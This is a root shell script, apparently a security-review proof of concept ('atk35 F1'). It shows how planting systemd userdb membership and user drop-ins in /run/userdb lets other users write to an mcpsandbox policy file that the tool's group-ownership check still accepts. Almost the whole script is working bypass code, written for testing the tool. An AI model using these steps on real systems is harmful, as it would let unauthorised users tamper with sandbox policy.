#!/bin/sh
# atk35 F1: a membership nss-systemd serves (userdb drop-in), unseen by privgroup. Run as root.
# Needs users atkann (uid/gid 1002, private group) and atkeve made by `useradd -m -U`.
B=${B:-/tmp/atk35/mcpsandbox}
H=/home/atkann; mkdir -p $H/cfg/ws; chmod 755 $H
cp /work/main/docs/findings/atk34b/f1_policy.toml $H/cfg/policy.toml
chown -R atkann:atkann $H/cfg; chmod 775 $H/cfg; chmod 664 $H/cfg/policy.toml
cp $B /tmp/atk35/mcpsandbox-pub; chmod 755 /tmp/atk35/mcpsandbox-pub /tmp/atk35
echo "== nsswitch:"; grep -E '^(passwd|group|initgroups):' /etc/nsswitch.conf
echo "== control: /etc/group line listing atkeve in a second gid-1002 group"
cp -a /etc/group /tmp/atk35/group.bak
echo 'atkx:x:1002:atkeve' >> /etc/group
runuser -u atkann -- /tmp/atk35/mcpsandbox-pub serve --policy $H/cfg/policy.toml --check >/tmp/atk35/f1c.out 2>&1 && echo "serve --check: ACCEPTED" || grep refusing /tmp/atk35/f1c.out
cp -a /tmp/atk35/group.bak /etc/group
echo "== attack: a userdb membership drop-in (systemd's JSON user/group records; no daemon needed)"
mkdir -p /run/userdb; echo '{}' > /run/userdb/atkeve:atkann.membership
grep atkann /etc/group
id atkeve
runuser -u atkann -- /tmp/atk35/mcpsandbox-pub serve --policy $H/cfg/policy.toml --check >/tmp/atk35/f1c.out 2>&1 && echo "serve --check: ACCEPTED" || grep refusing /tmp/atk35/f1c.out
runuser -u atkeve -- sh -c 'id; echo "# written by atkeve" >> /home/atkann/cfg/policy.toml' && tail -1 $H/cfg/policy.toml
rm -f /run/userdb/atkeve:atkann.membership; rmdir /run/userdb 2>/dev/null
echo "== variant: a userdb user record (no /etc/passwd line) whose primary group is 1002"
mkdir -p /run/userdb
echo '{"userName":"atkzed","uid":1010,"gid":1002,"homeDirectory":"/tmp","shell":"/bin/sh","disposition":"regular"}' > /run/userdb/atkzed.user
getent passwd atkzed
runuser -u atkann -- /tmp/atk35/mcpsandbox-pub serve --policy $H/cfg/policy.toml --check >/tmp/atk35/f1z.out 2>&1 && echo "serve --check: ACCEPTED" || grep refusing /tmp/atk35/f1z.out
runuser -u atkzed -- sh -c 'id; echo "# written by atkzed (userdb user, primary gid 1002)" >> /home/atkann/cfg/policy.toml' && tail -1 $H/cfg/policy.toml
rm -f /run/userdb/atkzed.user; rmdir /run/userdb 2>/dev/null
